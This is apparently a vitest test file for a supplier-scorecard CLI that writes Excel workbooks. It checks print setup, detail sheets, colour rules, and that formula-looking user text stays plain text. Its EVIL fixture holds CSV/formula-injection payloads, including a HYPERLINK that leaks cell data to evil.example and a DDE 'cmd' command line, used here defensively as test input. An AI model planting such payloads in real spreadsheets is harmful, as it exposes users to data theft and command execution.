// The standalone scorecard .xlsx and the `suppliers` command on real files: formats, detail sheets,
// and user text that looks like a formula staying text.
import { spawnSync } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import { runSuppliers } from '../../service/jobs/suppliers';
import { loadWorkbook, workbookRows } from '../exceljs-read';
import { inputWorkbook } from '../../service/xlsx/write-inputs';
import { readBook } from '../../service/xlsx/read-book';
import { resultWorkbook } from '../../service/xlsx/result-book';
import { readPlant } from '../../shared/validate';
import { ROOT, tempDir } from '../helpers';
import { handPlant } from './fixture';

// Names a spreadsheet would run as formulas if they were ever written as formulas.
const EVIL = {
  'S-A': '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
  'S-B': '+1+2',
  'S-C': '-3+cmd|\' /C calc\'!A0',
  'S-D': '@SUM(A1:A9)',
};
const EVIL_ITEM = '=1+1';

function evilRecords() {
  const r = handPlant();
  for (const s of r.sheets.Suppliers) s.Name = EVIL[s.SupplierId as keyof typeof EVIL];
  r.sheets.Items.push({ ItemId: EVIL_ITEM, Type: 'Buy' });
  r.sheets.SupplierItems.push({ Supplier: 'S-A', Item: EVIL_ITEM, UnitPrice: 3 });
  r.sheets.PurchaseOrders.push({ PoId: '-PO-X', Supplier: 'S-C', Item: EVIL_ITEM, Quantity: 10, UnitPrice: 3, DueDate: '2026-09-01', ReceivedDate: '2026-09-01', ReceivedQty: 10, AcceptedQty: 10 });
  return r;
}

/** `mto-planner …` as a user runs it (TypeScript through tsx, so no build is needed). */
function cli(args: string[]) {
  const r = spawnSync(process.execPath, ['--import', 'tsx', join(ROOT, 'service/cli.ts'), ...args], { cwd: ROOT, encoding: 'utf8', env: { ...process.env, LANG: 'en_US.UTF-8', LC_ALL: '' }, timeout: 120_000 });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

/** Every worksheet's raw XML in the package. */
const sheetXml = (file: string): string => spawnSync('unzip', ['-p', file, 'xl/worksheets/*.xml'], { encoding: 'utf8' }).stdout;

let dir: string;
let book: string;
let out: string;
let cliRun: ReturnType<typeof cli>;
let wb: ExcelJS.Workbook;

beforeAll(async () => {
  dir = tempDir('mto-scorecard-');
  book = join(dir, 'suppliers.xlsx');
  out = join(dir, 'scorecard Q3.xlsx');
  const r = evilRecords();
  await writeFile(book, Buffer.from(await inputWorkbook(r.settings, r.sheets, 'en').xlsx.writeBuffer()));
  cliRun = cli(['suppliers', book, '--period', '2026-Q3', '--out', out]);
  wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(out);
});

describe('mto-planner suppliers → scorecard .xlsx', () => {
  it('exits 0, prints the ranking and writes the file', () => {
    expect(cliRun.stderr).toBe('');
    expect(cliRun.code).toBe(0);
    const lines = cliRun.stdout.trim().split('\n');
    expect(lines[0]).toBe('period 2026-Q3 (2026-07-01 … 2026-09-30), trend vs 2026-Q2');
    expect(lines.slice(2, 6).map((l) => l.split(/\s+/)[0])).toEqual(['S-C', 'S-A', 'S-B', 'S-D']);
    expect(lines.at(-1)).toBe(`wrote scorecard ${out}`);
    expect(wb.worksheets.map((w) => w.name)).toEqual(['Scorecard', 'On-time', 'Quantity', 'Quality', 'Price', 'Service', 'Allocations', 'About', 'PriceReview']);
  });

  it('every sheet prints landscape, one page wide, with its header row on each page and a set header font', () => {
    for (const ws of wb.worksheets.filter((w) => w.name !== 'About')) {
      expect([ws.name, ws.pageSetup.orientation, ws.pageSetup.fitToPage, ws.pageSetup.fitToWidth, ws.pageSetup.fitToHeight, ws.pageSetup.printTitlesRow]).toEqual([ws.name, 'landscape', true, 1, 0, '1:1']);
      expect(ws.getCell(1, 1).font).toMatchObject({ name: 'Calibri', size: 11, bold: true });
    }
  });

  it('summary: sorted by score, frozen header, filter, formats, colour scales, grade colours', () => {
    const ws = wb.getWorksheet('Scorecard')!;
    const header = (ws.getRow(1).values as unknown[]).slice(1);
    const col = (h: string) => header.indexOf(h) + 1;
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    // the filter buttons are the table's (header + 4 suppliers; 15 columns, A..O)
    expect(Object.values((ws as unknown as { tables: Record<string, { table: { tableRef: string } }> }).tables).map((t) => t.table.tableRef)).toEqual(['A1:O5']);
    const ids = [2, 3, 4, 5].map((r) => ws.getCell(r, col('Supplier')).value);
    expect(ids).toEqual(['S-C', 'S-A', 'S-B', 'S-D']);
    // S-A's figures as worked out in score.test.ts, with Excel formats
    const a = (h: string) => ws.getCell(3, col(h));
    expect(a('Total score').value).toBe(85.55);
    expect(a('On-time rate').value).toBe(0.75);
    expect(a('On-time rate').numFmt).toBe('0.0%');
    expect(a('Total score').numFmt).toBe('#,##0.00');
    // no deliveries: blank scores, said in words
    expect(ws.getCell(5, col('Total score')).value).toBeNull();
    expect(ws.getCell(5, col('AVL advice')).value).toBe('no deliveries');
    // grades coloured by grade: a conditional format per grade on the Grade column (L), so a
    // grade typed over later takes its colour too
    expect([2, 3, 4].map((r) => ws.getCell(r, col('Grade')).value)).toEqual(['A', 'B', 'C']);
    const cfs = (ws as unknown as { conditionalFormattings: { ref: string; rules: { type: string; operator?: string; formulae?: string[]; style?: { fill: { bgColor: { argb: string } } } }[] }[] }).conditionalFormattings;
    const gradeRules = cfs.filter((cf) => cf.rules[0].type === 'cellIs').map((cf) => [cf.ref, cf.rules[0].operator, cf.rules[0].formulae![0], cf.rules[0].style!.fill.bgColor.argb]);
    expect(gradeRules).toEqual([
      ['L2:L5', 'equal', '"A"', 'FF63BE7B'],
      ['L2:L5', 'equal', '"B"', 'FFC6EFCE'],
      ['L2:L5', 'equal', '"C"', 'FFFFEB9C'],
      ['L2:L5', 'equal', '"D"', 'FFFFC7CE'],
    ]);
    // a colour scale on each of the six score columns (F..K), anchored at GradeC / GradeB / GradeA
    const xml = spawnSync('unzip', ['-p', out, 'xl/worksheets/sheet1.xml'], { encoding: 'utf8' }).stdout;
    expect([...xml.matchAll(/<conditionalFormatting sqref="([A-Z]+)2:\1(\d+)"><cfRule type="colorScale"/g)].map((m) => m[1] + m[2])).toEqual(['F5', 'G5', 'H5', 'I5', 'J5', 'K5']);
    expect(xml).toContain('<cfvo type="num" val="60"/><cfvo type="num" val="75"/><cfvo type="num" val="90"/>'); // scores
    expect(xml).toContain('<cfvo type="num" val="0.6"/><cfvo type="num" val="0.75"/><cfvo type="num" val="0.9"/>'); // rates
  });

  it('detail sheets list the PurchaseOrders lines behind each figure, with their cells', () => {
    const rows = (name: string) => {
      const ws = wb.getWorksheet(name)!;
      const header = (ws.getRow(1).values as unknown[]).slice(1) as string[];
      const out: Record<string, unknown>[] = [];
      ws.eachRow((row, r) => {
        if (r > 1) out.push(Object.fromEntries(header.map((h, j) => [h, row.getCell(j + 1).value])));
      });
      return out;
    };
    const onTime = rows('On-time');
    // 8 hand-plant lines in Q3 plus the extra line -PO-X
    expect(onTime).toHaveLength(9);
    const po2 = onTime.find((r) => r.PO === 'PO-2')!;
    // PO-2 is the 3rd data row of PurchaseOrders → its PO cell A3
    expect(po2).toMatchObject({ 'Source cell': 'PurchaseOrders!A3', 'Days late': 3, 'Tolerance days': 2, 'On time': 'N' });
    expect(po2['Due date']).toEqual(new Date(Date.UTC(2026, 7, 10)));
    const quality = rows('Quality').filter((r) => r.Supplier === 'S-B');
    expect(quality.map((r) => [r.PO, r.Received, r.Accepted, r.Rejected])).toEqual([['PO-5', 100, 100, 0], ['PO-6', 50, 40, 10], ['PO-11', 100, 100, 0]]);
    const price = rows('Price').filter((r) => r.Supplier === 'S-B' && r.Item === 'BOLT');
    expect(price).toHaveLength(1);
    expect(price[0]).toMatchObject({ Spend: 600, 'Cheapest approved price': 10, 'Cheapest approved supplier': 'S-A' });
    expect(rows('Service').map((r) => [r.Supplier, r['Source cell'], r['Service 0–100'], r['Cooperation 0–100']])).toEqual([
      ['S-C', 'SupplierRatings!B4', 100, 100],
      ['S-A', 'SupplierRatings!B2', 75, 100],
    ]);
    const alloc = rows('Allocations');
    const sums = new Map<string, number>();
    for (const r of alloc) sums.set(String(r.Item), (sums.get(String(r.Item)) ?? 0) + Number(r['Suggested share %']));
    expect([...sums.values()].every((s) => s === 100)).toBe(true);
  });

  it('user text that looks like a formula is written as text, never as a formula', () => {
    const seen: string[] = [];
    for (const ws of wb.worksheets)
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          const v = cell.value;
          if (typeof v === 'string' && [...Object.values(EVIL), EVIL_ITEM, '-PO-X'].includes(v)) {
            expect(cell.type).toBe(ExcelJS.ValueType.String);
            expect(cell.formula).toBeUndefined();
            seen.push(`${ws.name}:${v}`);
          }
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        }),
      );
    // every evil name reached the summary, and the evil item and PoId the detail sheets
    for (const v of Object.values(EVIL)) expect(seen).toContain(`Scorecard:${v}`);
    expect(seen).toContain(`On-time:${EVIL_ITEM}`);
    expect(seen).toContain('Price:-PO-X');
    // and in the package itself: no <f> (formula) element in any sheet
    const xml = sheetXml(out);
    expect(xml).toContain('<sheetData>');
    expect(xml).not.toMatch(/<f[ >]/);
  });

  it('the SupplierScorecard result sheet written into the user\'s own workbook keeps names as text', async () => {
    const input = readBook(readFileSync(book));
    const { plant, problems } = readPlant(input.rows, 'suppliers');
    expect(problems).toEqual([]);
    const r = await runSuppliers(plant, { lang: 'en', period: '2026-Q3' });
    const file = join(dir, 'with-results.xlsx');
    await writeFile(file, await resultWorkbook(input, r.sheets, 'en'));
    const back = await loadWorkbook(readFileSync(file));
    const ws = back.getWorksheet('SupplierScorecard')!;
    const names = [2, 3, 4, 5].map((i) => ws.getCell(i, 3));
    expect(names.map((c) => c.value)).toEqual([EVIL['S-C'], EVIL['S-A'], EVIL['S-B'], EVIL['S-D']]);
    expect(names.every((c) => c.type === ExcelJS.ValueType.String)).toBe(true);
    expect(spawnSync('unzip', ['-p', file, 'xl/worksheets/*.xml'], { encoding: 'utf8' }).stdout).not.toMatch(/<f[ >]/);
  });
});

describe('mto-planner suppliers, other ways in', () => {
  it('--json prints the scorecard and writes no file unless --out is given', () => {
    const r = cli(['suppliers', book, '--period', '2026-Q3', '--json']);
    expect(r.code).toBe(0);
    const json = JSON.parse(r.stdout);
    expect(json.period).toBe('2026-Q3');
    expect(json.suppliers.find((s: { supplierId: string }) => s.supplierId === 'S-A')).toMatchObject({ onTimeRate: 0.75, qualityRate: 0.95, total: 85.55, grade: 'B', trend: 0.55 });
    expect(json.allocations.filter((a: { item: string }) => a.item === 'BOLT')).toEqual([{ item: 'BOLT', supplier: 'S-A', sharePct: 54 }, { item: 'BOLT', supplier: 'S-B', sharePct: 46 }]);
    expect(existsSync(join(dir, 'suppliers-scorecard-2026-Q3.xlsx'))).toBe(false);
  });

  it('without --period: the latest quarter with receipts, written next to the book', () => {
    const r = cli(['suppliers', book, '--lang', 'zh']);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('期间 2026-Q4');
    expect(existsSync(join(dir, 'suppliers-scorecard-2026-Q4.xlsx'))).toBe(true);
  });

  it('bad input: the cell and exit 2; a bad period: exit 2 with the accepted forms', async () => {
    const bad = await loadWorkbook(readFileSync(book));
    bad.getWorksheet('PurchaseOrders')!.getCell('G3').value = 'soon'; // PO-2's ReceivedDate, typed as text
    const file = join(dir, 'bad.xlsx');
    await bad.xlsx.writeFile(file);
    const r = cli(['suppliers', file]);
    expect(r.code).toBe(2);
    expect(r.stderr.trim()).toBe('PurchaseOrders!G3: ReceivedDate must be a date such as 2026-03-31 (got soon)');
    const p = cli(['suppliers', book, '--period', '2026-Q5']);
    expect(p.code).toBe(2);
    expect(p.stderr).toMatch(/period "2026-Q5" is not understood: use a quarter \(2026-Q3\)/);
  });
});
